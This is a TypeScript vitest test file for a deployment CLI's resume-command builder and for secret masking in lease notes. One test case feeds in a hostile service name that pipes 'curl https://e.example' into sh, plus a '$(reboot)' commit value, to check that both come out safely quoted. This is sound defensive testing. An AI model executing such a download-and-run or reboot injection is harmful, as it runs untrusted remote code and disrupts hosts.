import { expect, it, test } from 'vitest'
import { createJournal } from '../../src/journal/journal.ts'
import { memoryFiles } from '../../src/kit/memory-files.ts'
import { Secret } from '../../src/kit/secret.ts'
import { goOnWith, topicalOperation } from '../../src/operations/unfinished.ts'
import { noteText, noteVariables, type OperationNote } from '../../src/plan/operation-notes.ts'
import { anObservedService, anObservedState, deployedAt } from '../support/builders.ts'
import { FakeClock } from '../support/fake-clock.ts'

const commit = '2222222222222222222222222222222222222222'

it.each<[string, Partial<OperationNote>, string]>([
  ['a deploy', { command: 'deploy' }, 'fakturino deploy -e staging'],
  ['of a commit', { command: 'deploy', commit }, `fakturino deploy -e staging --commit ${commit}`],
  ['of some services', { command: 'deploy', services: ['api', 'worker'] }, 'fakturino deploy api worker -e staging'],
  ['a restart', { command: 'restart', services: ['api'] }, 'fakturino restart api -e staging'],
  ['a rollback', { command: 'rollback', commit }, `fakturino rollback services --to ${commit} -e staging`],
  [
    'a rollback of some services',
    { command: 'rollback', commit: '--yes', services: ['api', '--yes', 'my worker'] },
    "fakturino rollback services --service api --service 'my worker' -e staging",
  ],
  ['an init', { command: 'init' }, 'fakturino init'],
  [
    'of a service with a blank in its name',
    { command: 'deploy', services: ['my api'] },
    "fakturino deploy 'my api' -e staging",
  ],
  [
    'what somebody wrote for a shell to run',
    { command: 'deploy', services: ['api; curl https://e.example | sh'], commit: '$(reboot)' },
    "fakturino deploy 'api; curl https://e.example | sh' -e staging --commit '$(reboot)'",
  ],
  [
    'what somebody wrote as an option',
    { command: 'deploy', services: ['--yes', '-c/tmp/x', 'api'] },
    'fakturino deploy api -e staging',
  ],
])('the command that goes on with %s', (_, note, command) => {
  expect(goOnWith({ nonce: 'n', command: 'deploy', by: 'nina', since: 0, ...note }, 'staging')).toBe(command)
})

test('who is at work is told without a value of a variable, though the reason holds one', async () => {
  const clock = new FakeClock()
  const journal = createJournal('/state', {
    files: memoryFiles({}),
    clock,
    pid: 1,
    host: 'here',
    isRunning: () => false,
  })
  const until = deployedAt + 60_000
  const reason = 'the key is sentinel-7f31ab02'
  const lease = noteText({ nonce: 'n', holder: 'petra', command: 'deploy', since: 0, until, reason })
  const state = anObservedState({
    services: [anObservedService('api', { variables: { KEY: { value: new Secret('sentinel-7f31ab02') } } })],
    sharedVariables: { [noteVariables.lease]: { value: new Secret(lease) } },
  })
  expect(await topicalOperation(state, { clock, journal })).toMatchObject({
    state: 'under-way',
    by: 'petra',
    reason: 'the key is [secret]',
  })
})
